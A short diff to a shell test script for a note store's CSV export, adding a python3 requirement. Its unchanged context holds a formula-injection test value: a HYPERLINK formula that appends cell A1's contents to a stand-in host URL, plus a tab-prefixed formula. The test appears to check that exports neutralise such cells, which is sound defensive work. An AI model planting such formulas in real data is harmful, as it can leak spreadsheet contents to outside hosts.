@@ -8,6 +8,7 @@
 # rev) are written as they are.  --csv-raw writes every cell as stored.
 # export -o writes its file with mode 0600 whatever the umask.
 . "$(dirname "$0")/lib.sh"
+need python3
 
 new_store
 ok add --title '=HYPERLINK("http://x.test/?"&A1,"click")' --when 2024-03-12 --notes "$(printf '\t=1+1')"
